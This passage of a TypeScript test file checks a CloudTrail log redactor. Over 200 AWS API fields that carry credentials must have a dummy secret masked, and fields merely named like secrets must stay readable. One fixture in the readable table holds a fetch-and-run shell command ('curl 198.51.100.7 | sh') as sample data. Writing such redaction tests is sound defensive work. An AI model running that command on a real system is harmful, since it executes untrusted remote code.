import { redact } from "../../../lambda/core/record/redaction.ts";
import { REDACTED } from "../../../lambda/core/record/secret-names.ts";
import { targetOf } from "../../../lambda/core/record/target.ts";
import { viewOf } from "../../../lambda/core/record/view.ts";
import { cpuTimeOf } from "../../support/cpu-time.ts";
import { alertsOf, everyCall } from "../../support/desk-pipeline.ts";
import { record } from "../../support/log-files.ts";
import { sampled } from "../../support/runs.ts";

/** A secret, wherever it stands. */
const HUSH = "hush7Fa3";

/** `iam:CreateUser requestParameters.tags[].key`: a record that has the value there. */
function recordOf(shape: string, value: unknown): { readonly [field: string]: unknown } {
  const [, service = "", call = "", path = ""] = /^([\w-]+):(\w+) (.+)$/.exec(shape) ?? [];
  let inner = value;
  for (const step of (path.match(/\[\]|[^.[\]]+/g) ?? []).reverse())
    inner = step === "[]" ? [inner] : { [step]: inner };
  return { eventSource: `${service}.amazonaws.com`, eventName: call, ...(inner as object) };
}

const shown = (value: unknown) => JSON.stringify(redact(value));

/**
 * Where AWS's APIs carry credentials: members that the service models of botocore 1.43.107 mark as sensitive, as
 * CloudTrail writes their names, one of each name; then those that the models do not mark, and whole maps.
 */
const SECRET_SHAPES: readonly (readonly [shape: string, value?: unknown])[] = [
  ["account:AcceptPrimaryEmailUpdate requestParameters.otp"],
  ["acm:ExportCertificate requestParameters.passphrase"],
  ["acm:ExportCertificate responseElements.privateKey"],
  ["aidevops:AssociateService responseElements.webhook.webhookSecret"],
  ["aidevops:EnableOperatorApp requestParameters.idpClientSecret"],
  ["airflow:CreateCliToken responseElements.cliToken"],
  ["airflow:CreateWebLoginToken responseElements.webToken"],
  ["amplify:CreateApp requestParameters.basicAuthCredentials"],
  ["amplify:CreateApp requestParameters.oauthToken"],
  ["appconfig:CreateHostedConfigurationVersion requestParameters.content"],
  [
    "appflow:CreateConnectorProfile requestParameters.connectorProfileConfig.connectorProfileCredentials.customConnector.custom.credentialsMap.DB_URL",
  ],
  [
    "appflow:CreateConnectorProfile requestParameters.connectorProfileConfig.connectorProfileCredentials.salesforce.jwtToken",
  ],
  [
    "appflow:CreateConnectorProfile requestParameters.connectorProfileConfig.connectorProfileCredentials.trendmicro.apiSecretKey",
  ],
  [
    "apprunner:CreateService requestParameters.sourceConfiguration.imageRepository.imageConfiguration.runtimeEnvironmentVariables.DB_URL",
  ],
  ["appstream:CreateDirectoryConfig requestParameters.serviceAccountCredentials.accountPassword"],
  ["bedrock-agentcore-control:CreateApiKeyCredentialProvider requestParameters.apiKey"],
  [
    "bedrock-agentcore-control:CreatePaymentCredentialProvider requestParameters.providerConfigurationInput.coinbaseCdpConfiguration.apiKeySecret",
  ],
  [
    "bedrock-agentcore-control:CreatePaymentCredentialProvider requestParameters.providerConfigurationInput.coinbaseCdpConfiguration.walletSecret",
  ],
  [
    "bedrock-agentcore-control:CreatePaymentCredentialProvider requestParameters.providerConfigurationInput.stripePrivyConfiguration.appSecret",
  ],
  [
    "bedrock-agentcore-control:CreatePaymentCredentialProvider requestParameters.providerConfigurationInput.stripePrivyConfiguration.authorizationPrivateKey",
  ],
  ["bedrock-agentcore:GetResourceApiKey requestParameters.workloadIdentityToken"],
  ["bedrock-agentcore:GetWorkloadAccessTokenForJWT requestParameters.userToken"],
  ["chime:CreateBot responseElements.bot.securityToken"],
  ["chime:CreateMeetingDialOut requestParameters.joinToken"],
  ["chime:RegisterAppInstanceUserEndpoint requestParameters.endpointAttributes.deviceToken"],
  ["chime:RegisterAppInstanceUserEndpoint requestParameters.endpointAttributes.voipDeviceToken"],
  ["chime:UpdateSipMediaApplicationCall requestParameters.arguments.DB_URL"],
  ["codebuild:ImportSourceCredentials requestParameters.token"],
  ["codebuild:StartCommandExecution requestParameters.command"],
  ["cognito-identity:GetCredentialsForIdentity requestParameters.logins.DB_URL"],
  ["cognito-idp:AddUserPoolClientSecret requestParameters.clientSecret"],
  ["cognito-idp:AddUserPoolClientSecret responseElements.clientSecretDescriptor.clientSecretValue"],
  ["cognito-idp:AdminCreateUser requestParameters.temporaryPassword"],
  ["cognito-idp:AdminInitiateAuth requestParameters.session"],
  ["cognito-idp:AdminInitiateAuth responseElements.authenticationResult.idToken"],
  ["cognito-idp:AdminSetUserPassword requestParameters.password"],
  ["cognito-idp:AssociateSoftwareToken requestParameters.accessToken"],
  ["cognito-idp:AssociateSoftwareToken responseElements.secretCode"],
  ["cognito-idp:ChangePassword requestParameters.previousPassword"],
  ["cognito-idp:ChangePassword requestParameters.proposedPassword"],
  ["cognito-idp:ConfirmForgotPassword requestParameters.secretHash"],
  ["cognito-idp:GetClientToken requestParameters.secret"],
  ["cognito-idp:GetTokensFromRefreshToken requestParameters.refreshToken"],
  ["cognito-idp:RevokeToken requestParameters.token"],
  ["cognito-idp:UpdateAuthEventFeedback requestParameters.feedbackToken"],
  ["cognito-idp:VerifySoftwareToken requestParameters.userCode"],
  ["connect:CreateAuthCode responseElements.authCode"],
  ["datasync:CreateLocationObjectStorage requestParameters.secretKey"],
  ["dms:CreateEndpoint requestParameters.kafkaSettings.saslPassword"],
  ["dms:CreateEndpoint requestParameters.kafkaSettings.sslClientKeyPassword"],
  ["dms:CreateEndpoint requestParameters.oracleSettings.asmPassword"],
  ["dms:CreateEndpoint requestParameters.oracleSettings.securityDbEncryption"],
  ["dms:CreateEndpoint requestParameters.redisSettings.authPassword"],
  ["docdb-elastic:CreateCluster requestParameters.adminUserPassword"],
  ["ds:ConnectDirectory requestParameters.password"],
  ["ds:CreateTrust requestParameters.trustPassword"],
  ["ds:ResetUserPassword requestParameters.newPassword"],
  ["ec2:BundleInstance requestParameters.storage.s3.uploadPolicySignature"],
  ["ec2:CreateDelegateMacVolumeOwnershipTask requestParameters.macCredentials"],
  [
    "ec2:CreateFleet requestParameters.launchTemplateConfigs[].launchTemplateSpecification.launchTemplateSpecificationUserData",
  ],
  ["ec2:CreateKeyPair responseElements.keyMaterial"],
  ["ec2:CreateVerifiedAccessTrustProvider requestParameters.oidcOptions.clientSecret"],
  ["ec2:CreateVpnConnection requestParameters.options.tunnelOptions[].preSharedKey"],
  ["ec2:CreateVpnConnection responseElements.vpnConnection.customerGatewayConfiguration"],
  ["ec2:RunInstances requestParameters.userData"],
  ["ecs:ExecuteCommand responseElements.session.tokenValue"],
  ["eks-auth:AssumeRoleForPodIdentity requestParameters.token"],
  ["emr-containers:StartJobRun requestParameters.jobDriver.sparkSubmitJobDriver.entryPointArguments[]"],
  ["es:CreateElasticsearchDomain requestParameters.advancedSecurityOptions.masterUserOptions.masterUserPassword"],
  ["events:CreateConnection requestParameters.authParameters.apiKeyAuthParameters.apiKeyValue"],
  ["events:PutTargets requestParameters.targets[].redshiftDataParameters.sql"],
  ["evs:CreateEnvironment requestParameters.licenseInfo[].solutionKey"],
  ["evs:CreateEnvironment requestParameters.licenseInfo[].vsanKey"],
  [
    "firehose:CreateDeliveryStream requestParameters.httpEndpointDestinationConfiguration.endpointConfiguration.accessKey",
  ],
  ["firehose:CreateDeliveryStream requestParameters.snowflakeDestinationConfiguration.keyPassphrase"],
  [
    "firehose:CreateDeliveryStream requestParameters.httpEndpointDestinationConfiguration.requestConfiguration.commonAttributes",
    [{ attributeName: "tenant", attributeValue: HUSH }],
  ],
  ["frauddetector:GetEventPrediction requestParameters.eventVariables.DB_URL"],
  ["fsx:CreateFileSystem requestParameters.ontapConfiguration.fsxAdminPassword"],
  ["fsx:CreateStorageVirtualMachine requestParameters.svmAdminPassword"],
  [
    "glue:CreateConnection requestParameters.connectionInput.authenticationConfiguration.oAuth2Properties.authorizationCodeProperties.authorizationCode",
  ],
  [
    "glue:CreateConnection requestParameters.connectionInput.authenticationConfiguration.oAuth2Properties.oAuth2Credentials.userManagedClientApplicationClientSecret",
  ],
  ["iam:ChangePassword requestParameters.oldPassword"],
  ["iam:CreateAccessKey responseElements.accessKey.secretAccessKey"],
  ["iam:CreateLoginProfile requestParameters.password"],
  ["iam:CreateSAMLProvider requestParameters.addPrivateKey"],
  ["iam:CreateServiceSpecificCredential responseElements.serviceSpecificCredential.serviceCredentialSecret"],
  ["iam:CreateServiceSpecificCredential responseElements.serviceSpecificCredential.servicePassword"],
  ["iam:CreateVirtualMFADevice responseElements.virtualMFADevice.base32StringSeed"],
  ["iam:CreateVirtualMFADevice responseElements.virtualMFADevice.qRCodePNG"],
  ["iam:UploadServerCertificate requestParameters.privateKey"],
  ["interconnect:AcceptConnectionProposal requestParameters.activationKey"],
  ["invoicing:CreateProcurementPortalPreference requestParameters.procurementPortalSharedSecret"],
  ["iot:OpenTunnel responseElements.destinationAccessToken"],
  ["iot:OpenTunnel responseElements.sourceAccessToken"],
  ["iotmanagedintegrations:CreateManagedThing requestParameters.authenticationMaterial"],
  ["iotmanagedintegrations:CreateProvisioningProfile responseElements.claimCertificatePrivateKey"],
  ["iotwireless:AssociateAwsAccountWithPartnerAccount requestParameters.sidewalk.appServerPrivateKey"],
  ["ivsrealtime:CreateIngestConfiguration responseElements.ingestConfiguration.streamKey"],
  ["kafkaconnect:CreateWorkerConfiguration requestParameters.propertiesFileContent"],
  ["kms:CreateCustomKeyStore requestParameters.keyStorePassword"],
  ["kms:CreateCustomKeyStore requestParameters.xksProxyAuthenticationCredential.rawSecretAccessKey"],
  ["kms:Decrypt responseElements.plaintext"],
  ["kms:DeriveSharedSecret responseElements.sharedSecret"],
  ["kms:GenerateDataKeyPair responseElements.privateKeyPlaintext"],
  ["lakeformation:GetWorkUnitResults requestParameters.workUnitToken"],
  ["lambda:Invoke requestParameters.payload"],
  ["lambda:UpdateFunctionCode requestParameters.zipFile"],
  ["lex:CreateExport requestParameters.filePassword"],
  ["lex:StartBotRecommendation requestParameters.encryptionSetting.associatedTranscriptsPassword"],
  ["lex:StartBotRecommendation requestParameters.encryptionSetting.botLocaleExportPassword"],
  ["mail-manager:CreateIngressPoint requestParameters.ingressPointConfiguration.smtpPassword"],
  ["odb:CreateAutonomousDatabase requestParameters.adminPassword"],
  ["odb:CreateAutonomousDatabaseWallet responseElements.autonomousDatabaseWalletFile"],
  ["partnercentral-account:AssociateAwsTrainingCertificationEmailDomain requestParameters.emailVerificationCode"],
  ["payment-cryptography:DecryptData requestParameters.wrappedKey.wrappedKeyMaterial.tr31KeyBlock"],
  ["payment-cryptography:DecryptData responseElements.plainText"],
  ["payment-cryptography:GenerateAuthRequestCryptogram responseElements.authRequestCryptogram"],
  [
    "payment-cryptography:GenerateCardValidationData requestParameters.generationAttributes.dynamicCardVerificationCode.trackData",
  ],
  [
    "payment-cryptography:GenerateMacEmvPinChange requestParameters.derivationMethodAttributes.amex.currentPinAttributes.currentEncryptedPinBlock",
  ],
  [
    "payment-cryptography:GenerateMacEmvPinChange requestParameters.derivationMethodAttributes.emvCommon.applicationCryptogram",
  ],
  ["payment-cryptography:GenerateMacEmvPinChange requestParameters.newEncryptedPinBlock"],
  ["payment-cryptography:GenerateMacEmvPinChange responseElements.encryptedPinBlock"],
  ["payment-cryptography:GeneratePinData requestParameters.generationAttributes.ibm3624PinOffset.pinValidationData"],
  ["payment-cryptography:GeneratePinData responseElements.pinData.pinOffset"],
  ["payment-cryptography:GeneratePinData responseElements.pinData.verificationValue"],
  ["payment-cryptography:ImportKey requestParameters.keyMaterial.keyCryptogram.wrappedKeyCryptogram"],
  ["payment-cryptography:ImportKey requestParameters.keyMaterial.tr31KeyBlock.wrappedKeyBlock"],
  ["payment-cryptography:TranslateKeyMaterial responseElements.wrappedKey.wrappedKeyMaterial"],
  ["payment-cryptography:TranslatePinData responseElements.pinBlock"],
  ["pipes:CreatePipe requestParameters.enrichmentParameters.httpParameters.headerParameters.DB_URL"],
  ["pipes:CreatePipe requestParameters.enrichmentParameters.httpParameters.queryStringParameters.DB_URL"],
  ["pipes:CreatePipe requestParameters.targetParameters.redshiftDataParameters.sqls[]"],
  ["quicksight:CreateOAuthClientApplication requestParameters.clientSecret"],
  ["rds:CreateDBCluster requestParameters.masterUserPassword"],
  ["rds:CreateDBInstance requestParameters.tdeCredentialPassword"],
  ["redshift:CreateCluster requestParameters.masterUserPassword"],
  ["route53domains:UpdateDomainNameservers requestParameters.fIAuthKey"],
  ["s3:CompleteMultipartUpload requestParameters.sSECustomerKey"],
  ["s3:CopyObject requestParameters.copySourceSSECustomerKey"],
  ["s3:CreateSession responseElements.credentials.secretAccessKey"],
  ["s3:CreateSession responseElements.credentials.sessionToken"],
  ["secretsmanager:CreateSecret requestParameters.secretBinary"],
  ["secretsmanager:CreateSecret requestParameters.secretString"],
  ["secretsmanager:PutSecretValue requestParameters.rotationToken"],
  ["ses:CreateEmailIdentity requestParameters.dkimSigningAttributes.domainSigningPrivateKey"],
  ["social-messaging:AssociateWhatsAppBusinessAccount requestParameters.setupFinalization.associateInProgressToken"],
  ["social-messaging:AssociateWhatsAppBusinessAccount requestParameters.setupFinalization.phoneNumbers[].twoFactorPin"],
  ["sso-oauth:CreateToken requestParameters.codeVerifier"],
  ["sso-oauth:CreateTokenWithIAM requestParameters.assertion"],
  ["sso-oauth:CreateTokenWithIAM requestParameters.subjectToken"],
  ["states:SendTaskSuccess requestParameters.output"],
  ["states:StartExecution requestParameters.input"],
  ["states:TestState requestParameters.variables", `{"a":"${HUSH}"}`],
  ["storagegateway:SetLocalConsolePassword requestParameters.localConsolePassword"],
  ["storagegateway:UpdateChapCredentials requestParameters.secretToAuthenticateInitiator"],
  ["storagegateway:UpdateChapCredentials requestParameters.secretToAuthenticateTarget"],
  ["sts:AssumeRole responseElements.credentials.secretAccessKey"],
  ["sts:AssumeRoleWithSAML requestParameters.sAMLAssertion"],
  ["sts:AssumeRoleWithWebIdentity requestParameters.webIdentityToken"],
  ["sts:GetDelegatedAccessToken requestParameters.tradeInToken"],
  ["transfer:CreateServer requestParameters.hostKey"],
  ["transfer:ImportCertificate requestParameters.privateKey"],
  ["transfer:ImportHostKey requestParameters.hostKeyBody"],
  ["transfer:TestIdentityProvider requestParameters.userPassword"],
  ["verifiedpermissions:BatchIsAuthorizedWithToken requestParameters.identityToken"],
  ["workdocs:AbortDocumentVersionUpload requestParameters.authenticationToken"],
  ["workmail:CreateAvailabilityConfiguration requestParameters.ewsProvider.ewsPassword"],
  // Not marked in the models, or marked as a whole.
  ["apigateway:CreateApiKey requestParameters.createApiKeyInput.value"],
  ["apigateway:ImportApiKeys requestParameters.body"],
  ["apigateway:CreateDomainName requestParameters.createDomainNameInput.certificatePrivateKey"],
  ["apigateway:CreateStage requestParameters.createStageInput.variables.backend"],
  ["appsync:CreateApiKey responseElements.apiKey", HUSH],
  ["appsync:CreateApiKey responseElements.apiKey", { id: `da2-${HUSH.toLowerCase().repeat(3)}`, expires: 1 }],
  ["autoscaling:CreateLaunchConfiguration requestParameters.userData"],
  ["batch:RegisterJobDefinition requestParameters.containerProperties.environment", [{ name: "DB", value: HUSH }]],
  ["batch:SubmitJob requestParameters.containerOverrides.environment", [{ name: "DB", value: HUSH }]],
  ["batch:SubmitJob requestParameters.parameters.input"],
  ["cloudformation:CreateStack requestParameters.parameters", [{ parameterKey: "DBPassword", parameterValue: HUSH }]],
  ["cloudformation:CreateStack requestParameters.parameters", [{ parameterKey: "Motto", parameterValue: HUSH }]],
  ["cloudformation:CreateStack requestParameters.templateBody", `Parameters:\n  A:\n    Default: ${HUSH}\n`],
  [
    "cloudformation:CreateStack requestParameters.templateBody",
    JSON.stringify({ Resources: { Db: { Properties: { MasterUserPassword: HUSH } } } }),
  ],
  ["cloudcontrolapi:CreateResource requestParameters.desiredState", `{"Environment":{"Variables":{"A":"${HUSH}"}}}`],
  [
    "cloudcontrolapi:UpdateResource requestParameters.patchDocument",
    `[{"op":"add","path":"/Environment/Variables/A","value":"${HUSH}"}]`,
  ],
  [
    "codebuild:CreateProject requestParameters.environment",
    { computeType: "BUILD_GENERAL1_SMALL", environmentVariables: [{ name: "A", value: HUSH, type: "PLAINTEXT" }] },
  ],
  [
    "codebuild:StartBuild requestParameters.environmentVariablesOverride",
    [{ name: "NPM_TOKEN", value: HUSH, type: "PLAINTEXT" }],
  ],
  [
    "codebuild:StartBuild requestParameters.environmentVariablesOverride",
    [{ name: "REGISTRY", value: HUSH, type: "PLAINTEXT" }],
  ],
  [
    "cloudfront:UpdateDistribution2020_05_31 requestParameters.distributionConfig.origins.items[].customHeaders.items",
    [{ headerName: "x-from", headerValue: HUSH }],
  ],
  ["codepipeline:StartPipelineExecution requestParameters.variables", [{ name: "a", value: HUSH }]],
  ["codepipeline:CreatePipeline requestParameters.pipeline.stages[].actions[].configuration.OAuthToken"],
  ["cognito-idp:ConfirmSignUp requestParameters.confirmationCode"],
  ["cognito-idp:InitiateAuth requestParameters.authParameters.SRP_A"],
  ["cognito-idp:RespondToAuthChallenge requestParameters.challengeResponses.ANSWER"],
  ["wafv2:CreateAPIKey responseElements.aPIKey"],
  ["iam:CreateUser requestParameters.xAPIKey"],
  ["iam:CreateUser requestParameters.xAPIKeyValue"],
  ["iam:CreateUser requestParameters.xAPIKey_2"],
  ["iam:CreateUser requestParameters.xAUTHORIZATION"],
  ["appstream:CreateStreamingURL responseElements.streamingURL", `https://example.com/authenticate?parameters=${HUSH}`],
  ["iotwireless:CreateWirelessDevice requestParameters.loRaWAN.otaaV1_1.nwkKey"],
  ["mobiletargeting:UpdateApnsChannel requestParameters.aPNSChannelRequest.tokenKey"],
  ["ecs:RegisterTaskDefinition requestParameters.containerDefinitions[].environment", [{ name: "A", value: HUSH }]],
  ["ecs:RunTask requestParameters.overrides.containerOverrides[].environment", [{ name: "A", value: HUSH }]],
  ["ecs:RunTask requestParameters.overrides.containerOverrides[].command", ["serve", "--db-password", HUSH]],
  ["ecs:RunTask requestParameters.overrides.containerOverrides[].command", ["mysql", "-u", "root", `-p${HUSH}`]],
  ["ecs:RunTask requestParameters.overrides.containerOverrides[].command", ["smbclient", "-U", `ops%${HUSH}`]],
  ["ecs:RunTask requestParameters.overrides.containerOverrides[].command", ["curl", "-u", `me:${HUSH}`, "example.com"]],
  ["elasticache:ModifyUser requestParameters.passwords", [HUSH]],
  ["elasticache:CreateReplicationGroup requestParameters.authToken"],
  [
    "elasticbeanstalk:UpdateEnvironment requestParameters.optionSettings",
    [{ namespace: "aws:elasticbeanstalk:application:environment", optionName: "A", value: HUSH }],
  ],
  [
    "elasticmapreduce:RunJobFlow requestParameters.configurations",
    [{ classification: "core-site", properties: { "fs.s3a.secret.key": HUSH } }],
  ],
  ["ec2:CreateLaunchTemplate requestParameters.CreateLaunchTemplateRequest.LaunchTemplateData.UserData"],
  ["ec2:ModifyInstanceAttribute requestParameters", { attribute: "userData", value: HUSH }],
  ["ec2:ModifyInstanceAttribute requestParameters.userData.value"],
  ["events:CreateConnection requestParameters.authParameters.basicAuthParameters.password"],
  [
    "events:CreateConnection requestParameters.authParameters.invocationHttpParameters.headerParameters",
    [{ key: "x-tenant", value: HUSH, isValueSecret: true }],
  ],
  ["glue:CreateConnection requestParameters.connectionInput.connectionProperties.PASSWORD"],
  ["glue:CreateJob requestParameters.defaultArguments.--url"],
  ["glue:StartJobRun requestParameters.arguments.--url"],
  ["iam:EnableMFADevice requestParameters.authenticationCode1", 123456],
  ["kms:ImportKeyMaterial requestParameters.encryptedKeyMaterial"],
  ["lambda:CreateFunction20150331 requestParameters.environment.variables.DB_URL"],
  ["lambda:UpdateFunctionConfiguration20150331v2 requestParameters.environment.variables.DB_URL"],
  ["mq:CreateBroker requestParameters.users", [{ username: "admin", password: HUSH }]],
  ["rdsdata:ExecuteStatement requestParameters.sql", `UPDATE users SET motto = '${HUSH}'`],
  ["rdsdata:ExecuteStatement requestParameters.parameters", [{ name: "a", value: { stringValue: HUSH } }]],
  ["rdsdata:BatchExecuteStatement requestParameters.parameterSets", [[{ name: "a", value: { stringValue: HUSH } }]]],
  ["redshift-data:ExecuteStatement requestParameters.sql", `COPY t FROM 's3://b' CREDENTIALS '${HUSH}'`],
  ["redshift-data:BatchExecuteStatement requestParameters.sqls", [`SELECT '${HUSH}'`, `SELECT '${HUSH}'`]],
  ["sagemaker:CreateModel requestParameters.primaryContainer.environment.A"],
  ["sagemaker:CreateTrainingJob requestParameters.environment.A"],
  ["servicecatalog:ProvisionProduct requestParameters.provisioningParameters", [{ key: "a", value: HUSH }]],
  ["signin:ConsoleLogin additionalEventData.LoginTo", `https://example.com/cb?code=${HUSH}&isauthcode=true`],
  ["sns:VerifySMSSandboxPhoneNumber requestParameters.oneTimePassword"],
  ["sns:Subscribe requestParameters.endpoint", `https://user:${HUSH}@example.com/hook`],
  ["ssm:CreateActivation responseElements.activationCode"],
  ["ssm:PutParameter requestParameters", { name: "/prod/motto", type: "String", value: HUSH }],
  ["ssm:SendCommand requestParameters.parameters.commands", [`curl -H 'x: ${HUSH}' example.com`]],
  ["ssm:SendCommand responseElements.command.parameters.commands", ["id", HUSH]],
  ["ssm:StartAutomationExecution requestParameters.parameters.Script", [HUSH]],
  ["ssm:StartSession responseElements.tokenValue"],
  ["sts:AssumeRole requestParameters.tokenCode"],
  ["sso-oauth:CreateToken requestParameters.code"],
  ["synthetics:CreateCanary requestParameters.runConfig.environmentVariables.A"],
];

test.each(SECRET_SHAPES.map(([shape, value = HUSH]) => [shape, value] as const))("%s is not shown", (shape, value) => {
  const clean = shown(recordOf(shape, value));
  expect(clean).not.toContain(typeof value === "number" ? String(value) : HUSH);
  expect(clean).toContain(REDACTED);
});

test("the table of secrets is as long as it says", () => {
  expect(new Set(SECRET_SHAPES.map(([shape]) => shape)).size).toBeGreaterThan(200);
});

/** What must be read at night, though it stands where secrets stand or is named like them. */
const POLICY = JSON.stringify({
  Version: "2012-10-17",
  Statement: [
    {
      Effect: "Allow",
      Principal: { Federated: "arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com" },
      Action: ["secretsmanager:GetSecretValue", "kms:Decrypt", "ssm:GetParameter*", "sts:GetSessionToken"],
      Resource: "arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/db-password-AbCdEf",
      Condition: {
        StringLike: { "token.actions.githubusercontent.com:sub": "repo:acme/site:*" },
        StringEquals: { "s3:signatureversion": "AWS4-HMAC-SHA256", "iam:PassedToService": "ec2.amazonaws.com" },
        DateGreaterThan: { "aws:TokenIssueTime": "2026-11-20T00:00:00Z" },
      },
    },
  ],
});

const READABLE_SHAPES: readonly (readonly [shape: string, value: unknown])[] = [
  ["iam:CreateUser requestParameters.userName", "secret-service-user"],
  ["iam:CreateRole requestParameters.roleName", "token-vending-machine"],
  ["iam:CreateRole requestParameters.assumeRolePolicyDocument", POLICY],
  ["iam:CreateRole responseElements.role.assumeRolePolicyDocument", encodeURIComponent(POLICY)],
  ["iam:PutUserPolicy requestParameters.policyDocument", JSON.stringify(JSON.parse(POLICY), null, 2)],
  ["s3:PutBucketPolicy requestParameters.bucketPolicy", JSON.parse(POLICY)],
  ["kms:PutKeyPolicy requestParameters.policy", POLICY],
  ["iam:UpdateAccessKey requestParameters.accessKeyId", "AKIAIOSFODNN7EXAMPLE"],
  ["iam:CreateAccessKey responseElements.accessKey.accessKeyId", "AKIAIOSFODNN7EXAMPLE"],
  ["iam:CreateAccessKey responseElements.accessKey.status", "Active"],
  ["iam:CreateAccessKey responseElements.accessKey.userName", "bob"],
  ["iam:CreateAccessKey responseElements.accessKey.createDate", "Nov 20, 2026 9:25:09 PM"],
  ["sts:AssumeRole responseElements.credentials.accessKeyId", "ASIAIOSFODNN7EXAMPLE"],
  ["sts:AssumeRole responseElements.credentials.expiration", "Nov 20, 2026, 10:25:09 PM"],
  ["sts:AssumeRole requestParameters.externalId", "partner-42"],
  ["sts:AssumeRole requestParameters.serialNumber", "arn:aws:iam::111122223333:mfa/alice"],
  ["sts:AssumeRole userIdentity.sessionContext.sessionIssuer.arn", "arn:aws:iam::111122223333:role/secret"],
  ["signin:ConsoleLogin userIdentity.sessionContext.attributes.mfaAuthenticated", "false"],
  ["sts:AssumeRole userIdentity.sessionCredentialFromConsole", "true"],
  ["iam:UpdateAccountPasswordPolicy requestParameters.minimumPasswordLength", 14],
  ["iam:UpdateAccountPasswordPolicy requestParameters.maxPasswordAge", 90],
  ["iam:UpdateAccountPasswordPolicy requestParameters.passwordReusePrevention", 24],
  ["iam:CreateLoginProfile requestParameters.passwordResetRequired", true],
  ["iam:CreateLoginProfile responseElements.loginProfile.passwordResetRequired", "yes"],
  [
    "iam:CreateServiceSpecificCredential responseElements.serviceSpecificCredential.serviceSpecificCredentialId",
    "ACCA1",
  ],
  ["iam:CreateOpenIDConnectProvider requestParameters.url", "https://token.actions.githubusercontent.com"],
  ["iam:UploadSSHPublicKey requestParameters.sSHPublicKeyBody", "ssh-rsa AAAAB3NzaC1yc2E"],
  ["iam:UploadSigningCertificate requestParameters.certificateBody", "-----BEGIN CERTIFICATE-----\nMIIC"],
  ["ec2:ImportKeyPair requestParameters.publicKeyMaterial", "c3NoLXJzYSBBQUFB"],
  ["ec2:CreateKeyPair requestParameters.keyName", "secret-key"],
  ["ec2:CreateKeyPair responseElements.keyFingerprint", "1f:51:ae:28"],
  ["ec2:ModifyInstanceMetadataOptions requestParameters.ModifyInstanceMetadataOptionsRequest.HttpTokens", "optional"],
  ["ec2:RunInstances requestParameters.clientToken", "c-1"],
  ["ec2:RunInstances requestParameters.keyName", "prod"],
  ["ec2:DescribeInstances requestParameters.nextToken", "n-1"],
  [
    "ec2:RunInstances responseElements.instancesSet.items",
    [{ instanceId: "i-0abc", stateReason: { code: "pending" } }],
  ],
  ["ec2:RunInstances requestParameters.tagSpecificationSet.items[].tags", [{ key: "Name", value: "bastion" }]],
  ["ec2:AuthorizeSecurityGroupIngress requestParameters.ipPermissions.items[].ipRanges.items[].cidrIp", "0.0.0.0/0"],
  ["cloudformation:CreateStack requestParameters.stackName", "secrets-prod"],
  ["cloudformation:CreateStack requestParameters.clientRequestToken", "Console-CreateStack-1"],
  ["cloudformation:CreateStack requestParameters.parameters", [{ parameterKey: "VpcId", parameterValue: "vpc-1" }]],
  ["secretsmanager:GetSecretValue requestParameters.secretId", "prod/db-password"],
  ["secretsmanager:CreateSecret requestParameters.name", "prod/db-password"],
  [
    "secretsmanager:DeleteSecret responseElements.arN",
    "arn:aws:secretsmanager:us-east-1:111122223333:secret:db-AbCdEf",
  ],
  ["secretsmanager:PutSecretValue requestParameters.clientRequestToken", "r-1"],
  ["ssm:PutParameter requestParameters.name", "/prod/db/password"],
  ["ssm:GetParameters requestParameters.names", ["/prod/db/password", "/prod/api/token"]],
  ["ssm:SendCommand requestParameters.documentName", "AWS-RunShellScript"],
  ["ssm:SendCommand requestParameters.instanceIds", ["i-0abc"]],
  ["ssm:StartSession requestParameters.parameters.portNumber", ["3389"]],
  ["ssm:StartSession responseElements.sessionId", "alice-0abc"],
  [
    "kms:Decrypt requestParameters.keyId",
    "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
  ],
  [
    "kms:Decrypt requestParameters.encryptionContext.SecretARN",
    "arn:aws:secretsmanager:us-east-1:111122223333:secret:d",
  ],
  ["kms:CreateGrant requestParameters.grantTokens", ["AQpAM2Rh"]],
  ["kms:ScheduleKeyDeletion requestParameters.pendingWindowInDays", 7],
  ["lambda:UpdateFunctionCode20150331v2 responseElements.codeSha256", "q1w2e3"],
  ["lambda:CreateFunction20150331 requestParameters.code", { s3Bucket: "b", s3Key: "secret.zip" }],
  ["lambda:CreateFunction20150331 requestParameters.codeSigningConfigArn", "arn:aws:lambda:us-east-1:111122223333:c:1"],
  ["lambda:AddPermission20150331v2 requestParameters.statementId", "public"],
  ["s3:PutObject requestParameters.key", "secrets/passwords.txt"],
  ["s3:GetObject requestParameters.bucketName", "passwords"],
  [
    "s3:GetObject additionalEventData",
    { SignatureVersion: "SigV4", CipherSuite: "TLS", AuthenticationMethod: "QueryString" },
  ],
  ["s3:ListObjects requestParameters.continuation-token", "t"],
  [
    "rds:ModifyDBParameterGroup requestParameters.parameters",
    [{ parameterName: "rds.force_ssl", parameterValue: "0" }],
  ],
  ["rds:ModifyDBInstance requestParameters.manageMasterUserPassword", true],
  [
    "rds:CreateDBProxy requestParameters.auth",
    [{ authScheme: "SECRETS", secretArn: "arn:aws:secretsmanager:us-east-1:111122223333:secret:d" }],
  ],
  ["rds:CreateDBInstance requestParameters.masterUsername", "admin"],
  [
    "ecs:RegisterTaskDefinition requestParameters.containerDefinitions[].secrets",
    [{ name: "DB_PASSWORD", valueFrom: "arn:aws:ssm:us-east-1:111122223333:parameter/db" }],
  ],
  ["ecs:RegisterTaskDefinition requestParameters.containerDefinitions[].image", "example/site:1.2"],
  ["ecs:RunTask requestParameters.overrides.containerOverrides[].command", ["sh", "-c", "curl 198.51.100.7 | sh"]],
  ["apigateway:PutIntegration requestParameters.putIntegrationInput.credentials", "arn:aws:iam::111122223333:role/api"],
  ["apigateway:CreatePortal requestParameters.authorization", { cognitoConfig: { userPoolDomain: "d" } }],
  ["apigateway:DeleteApiKey requestParameters.apiKey", "a1b2c3d4e5"],
  [
    "cognito-idp:CreateUserPoolClient requestParameters.tokenValidityUnits",
    { accessToken: "hours", refreshToken: "days" },
  ],
  ["bedrock:InvokeModel requestParameters.maxTokens", 512],
  ["bedrock:InvokeModel additionalEventData.inputTokens", 9],
  ["codebuild:StartBuild requestParameters.idempotencyToken", "i"],
  [
    "codebuild:CreateProject requestParameters.environment",
    { computeType: "BUILD_GENERAL1_SMALL", image: "aws/codebuild/standard:7.0", privilegedMode: true },
  ],
  ["cloudfront:CreateDistribution requestParameters.forwardedValues.cookies", { forward: "none" }],
  ["logs:PutLogEvents requestParameters.sequenceToken", "4957"],
  ["wafv2:UpdateWebACL requestParameters.lockToken", "l"],
  ["guardduty:DeleteDetector requestParameters.detectorId", "12abc34d567e8fa901bc2d34e56789f0"],
